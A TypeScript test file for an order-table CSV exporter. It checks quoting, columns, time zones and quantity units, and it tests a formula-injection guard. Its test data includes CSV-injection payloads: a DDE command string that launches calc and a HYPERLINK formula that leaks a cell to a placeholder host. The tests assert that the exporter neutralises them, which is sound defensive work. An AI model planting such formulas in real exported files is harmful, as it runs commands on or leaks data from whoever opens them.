import { describe, expect, it } from 'vitest';
import { COLUMNS, effectiveSort, shownColumns } from '../../../../../renderer/views/orders/table/order-columns.ts';
import { visibleUnits, type VisibleUnit } from '../../../../../renderer/views/orders/table/order-rows.ts';
import { ordersCsv } from '../../../../../renderer/views/orders/format/orders-csv.ts';
import { csvField } from '../../../../../shared/spreadsheet-text.ts';
import type { Order } from '../../../../../shared/domain/orders.ts';
import { book, buyWrite, group, leg, OPEN_BELL, optionLeg, order, spread } from '../order-fixtures.ts';

/** RFC 4180 as a spreadsheet reads it: the fields of each record (every record ends with CRLF). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  let i = 0;
  const endField = () => {
    record.push(field);
    field = '';
  };
  while (i < text.length) {
    const c = text[i] as string;
    const next = text[i + 1];
    i += 1;
    if (quoted && c === '"' && next === '"') {
      field += '"';
      i += 1;
    } else if (quoted) {
      if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === '') {
      quoted = true;
    } else if (c === ',') {
      endField();
    } else if (c === '\r' && next === '\n') {
      i += 1;
      endField();
      records.push(record);
      record = [];
    } else {
      field += c;
    }
  }
  expect(quoted, 'an unclosed quote').toBe(false);
  expect(field + record.join(''), 'text after the last CRLF').toBe('');
  return records;
}

/** Whether a spreadsheet would read a cell as a formula: a trigger first, after any leading whitespace. */
const looksLikeFormula = (cell: string): boolean => /^\s*[=+\-@]/.test(cell) || /^[\t\r]/.test(cell);

describe('csvField', () => {
  it.each([
    [null, ''],
    ['', ''],
    ['KO', 'KO'],
    [0, '0'],
    [1234.5, '1234.5'],
    [-1.25, '-1.25'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['two\r\nlines', '"two\r\nlines"'],
    [' padded ', '" padded "'],
    ['Coca-Cola', 'Coca-Cola'],
  ])('writes %j as %j', (value, text) => {
    expect(csvField(value)).toBe(text);
  });

  // Provider text a spreadsheet would run: each must come out as text (a leading apostrophe).
  const hostile = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1:A9)',
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    '\n=1+1',
    '  @SUM(A1)',
    '\u00a0+1',
  ];

  // An apostrophe goes before every place a cell could start (the value's start, and after a tab
  // or line break a spreadsheet may split on): one apostrophe at the front of "\t=1+1" would
  // leave "=1+1" a formula once split at the tab. Nothing but apostrophes is added.
  it.each(hostile)('neutralises %j', (text) => {
    const [[cell]] = parseCsv(`${csvField(text)}\r\n`) as [[string]];
    expect(cell.startsWith("'") || /^\n/.test(text)).toBe(true);
    expect(cell.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
    for (const part of cell.split(/[\t\r\n]/)) expect(looksLikeFormula(part), JSON.stringify(part)).toBe(false);
  });

  it('leaves numbers as numbers, negative ones included, whether typed as numbers or text', () => {
    expect(csvField(-5)).toBe('-5');
    // A strictly numeric text is data a spreadsheet reads as a number, never a formula.
    expect(csvField('-5')).toBe('-5');
    expect(csvField('-1+1')).toBe("'-1+1");
  });

  it('keeps a field with a `;` one field in `;`-separator locales, its formula neutralised', () => {
    const field = csvField("ACME;=cmd|' /C calc'!A0");
    expect(field.startsWith('"')).toBe(true);
    const [[cell]] = parseCsv(`${field}\r\n`) as [[string]];
    for (const part of cell.split(';')) expect(looksLikeFormula(part), part).toBe(false);
  });

  it('neutralises full-width triggers', () => {
    for (const text of ['＝1+1', '＋1', '－1+1', '＠SUM(A1)']) expect(csvField(text)).toBe(`'${text}`);
  });
});

const buy = order('1001', {
  placedAt: OPEN_BELL,
  orderValue: 1250,
  status: 'EXECUTED',
  legs: [leg({ symbol: 'AAPL', symbolDescription: 'Apple, Inc. "Common"', filledQuantity: 100, executedPrice: 12.5 })],
});
const koSpread = spread('1002', { placedAt: Date.parse('2026-12-31T23:59:59-05:00'), status: 'OPEN' });
const bracket = group(
  '9000',
  [
    order('2001', { legs: [leg({ legNumber: null, symbol: 'PEP', symbolDescription: '=HYPERLINK("x")' })] }),
    order('2002', { status: 'CANCELLED', legs: [optionLeg(1, 'PUT', 55, { action: null, orderedQuantity: 3 })] }),
  ],
  { groupType: 'BRACKETED', cumulativeEstimatedCommission: 1.5 },
);
const units: VisibleUnit[] = [
  { kind: 'order', order: buy },
  { kind: 'order', order: koSpread },
  { kind: 'group', group: bracket, members: bracket.orders },
];

describe('ordersCsv', () => {
  const all = parseCsv(ordersCsv(units, COLUMNS));
  const header = all[0]!;
  const cell = (record: string[], name: string) => record[header.indexOf(name)];
  const kinds = all.slice(1).map((r) => `${r[0]} ${r[2] || r[1]}`);

  it('ends every line with CRLF and every record has the header’s fields', () => {
    const text = ordersCsv(units, COLUMNS);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.split('\r\n')).toHaveLength(all.length + 1);
    for (const record of all) expect(record).toHaveLength(header.length);
  });

  it('has a header of the row kind, IDs, the columns shown and the leg fields', () => {
    expect(header).toEqual([
      'Row',
      'Group ID',
      'Order ID',
      'Member',
      'Leg',
      'Placed (ET)',
      'Symbol',
      'Description',
      'Type',
      'Action',
      'Filled',
      'Ordered',
      'Unit',
      'Price',
      'Term',
      'Status',
      'Order value',
      'Est. commission',
      'Est. fees',
      'Call/Put',
      'Expiry',
      'Strike',
      'Executed price',
      'Replaces',
      'Replaced by',
    ]);
  });

  it('lists units as on screen, each order followed by every leg, expanded or not', () => {
    expect(kinds).toEqual(['Order 1001', 'Leg 1001', 'Order 1002', 'Leg 1002', 'Leg 1002', 'Group 9000', 'Member 2001', 'Leg 2001', 'Member 2002', 'Leg 2002']);
  });

  it('writes times in New York, across the year end', () => {
    expect(cell(all[1]!, 'Placed (ET)')).toBe('2026-06-10 09:30:00');
    expect(cell(all[3]!, 'Placed (ET)')).toBe('2026-12-31 23:59:59');
  });

  it('writes plain numbers and the provider’s text verbatim, commas and quotes included', () => {
    expect(cell(all[1]!, 'Description')).toBe('Apple, Inc. "Common"');
    expect(cell(all[1]!, 'Order value')).toBe('1250');
    expect(cell(all[2]!, 'Executed price')).toBe('12.5');
    expect(cell(all[2]!, 'Filled')).toBe('100');
  });

  it('gives option legs their side, expiry and strike, and numbers unnumbered legs by position', () => {
    const put = all[10]!;
    expect([cell(put, 'Leg'), cell(put, 'Call/Put'), cell(put, 'Expiry'), cell(put, 'Strike'), cell(put, 'Action')]).toEqual([
      '1',
      'PUT',
      '2026-07-17',
      '55',
      '— 3',
    ]);
    expect(cell(all[8]!, 'Leg')).toBe('1');
  });

  it('writes the group row with its members’ sums and the provider’s cumulative commission', () => {
    const row = all[6]!;
    expect([cell(row, 'Group ID'), cell(row, 'Order ID'), cell(row, 'Type'), cell(row, 'Status'), cell(row, 'Est. commission')]).toEqual([
      '9000',
      '',
      'Bracket',
      'Open',
      '1.5',
    ]);
    expect(cell(all[7]!, 'Group ID')).toBe('9000');
  });

  it('lets no cell read as a formula', () => {
    for (const record of all) for (const field of record) expect(looksLikeFormula(field), field).toBe(false);
    expect(cell(all[8]!, 'Description')).toBe('\'=HYPERLINK("x")');
  });

  it('keeps only the columns shown, in their order', () => {
    const [head] = parseCsv(ordersCsv(units, shownColumns(['status', 'order', 'symbol'])));
    expect(head).toEqual([
      'Row',
      'Group ID',
      'Order ID',
      'Member',
      'Leg',
      'Status',
      'Symbol',
      'Description',
      'Call/Put',
      'Expiry',
      'Strike',
      'Executed price',
      'Replaces',
      'Replaced by',
    ]);
  });

  it('writes a v1 group member by the platform’s ID with its member number, and the changed-order links, through the formula guard', () => {
    const member = { ...order('2001'), orderId: '374-2', platformOrderId: '374', orderNumber: 2 } as Order;
    const changed = { ...order('377'), replacesOrderId: '374' } as Order;
    const old = { ...order('374'), replacedByOrderId: '=1+1' } as Order;
    const v1 = group('374', [member]);
    const records = parseCsv(
      ordersCsv(
        [
          { kind: 'group', group: v1, members: [member] },
          { kind: 'order', order: changed },
          { kind: 'order', order: old },
        ],
        COLUMNS,
      ),
    );
    const head = records[0]!;
    const at = (record: string[], name: string) => record[head.indexOf(name)];
    const memberRow = records.find((r) => r[0] === 'Member')!;
    expect([at(memberRow, 'Order ID'), at(memberRow, 'Member')]).toEqual(['374', '2']);
    expect(records.map((r) => r[2])).not.toContain('374-2');
    const orderRows = records.filter((r) => r[0] === 'Order');
    expect(orderRows.map((r) => [at(r, 'Order ID'), at(r, 'Replaces'), at(r, 'Replaced by')])).toEqual([
      ['377', '374', ''],
      ['374', '', "'=1+1"],
    ]);
  });

  it('writes only the header for an empty list, and uses the units as visibleUnits filtered them', () => {
    expect(ordersCsv([], COLUMNS).split('\r\n')).toHaveLength(2);
    const open = visibleUnits(book([buy, koSpread], [bracket]), { tab: 'open', search: '', sort: effectiveSort(null) }).units;
    const rows = parseCsv(ordersCsv(open, COLUMNS))
      .slice(1)
      .filter((r) => r[0] !== 'Leg');
    expect(rows.map((r) => `${r[0]} ${r[2] || r[1]}`)).toEqual(['Order 1002', 'Group 9000', 'Member 2001']);
  });
});

describe('ordersCsv: quantities by unit', () => {
  const write = (...orders: ReturnType<typeof order>[]) => {
    const [header, ...records] = parseCsv(
      ordersCsv(
        orders.map((o) => ({ kind: 'order' as const, order: o })),
        COLUMNS,
      ),
    ) as [string[], ...string[][]];
    return records.map((record) => ['Row', 'Leg', 'Action', 'Filled', 'Ordered', 'Unit'].map((name) => record[header.indexOf(name)]));
  };

  it('counts a buy-write in spreads, never shares and contracts added, and each leg in its unit', () => {
    expect(write(buyWrite('3001', 0, 0))).toEqual([
      ['Order', '', '14 spreads', '0', '14', 'spreads'],
      ['Leg', '1', 'Buy 1400', '0', '1400', 'shares'],
      ['Leg', '2', 'Sell to open 14', '0', '14', 'contracts'],
    ]);
  });

  it('counts a spread in spreads, not its legs’ contracts summed', () => {
    expect(write(spread('3002'))[0]).toEqual(['Order', '', '2 spreads', '0', '2', 'spreads']);
  });

  it('writes a single-leg order as before, with its unit', () => {
    expect(write(order('3003', { legs: [leg({ filledQuantity: 40 })] }))).toEqual([
      ['Order', '', 'Buy 100', '40', '100', 'shares'],
      ['Leg', '1', 'Buy 100', '40', '100', 'shares'],
    ]);
  });
});
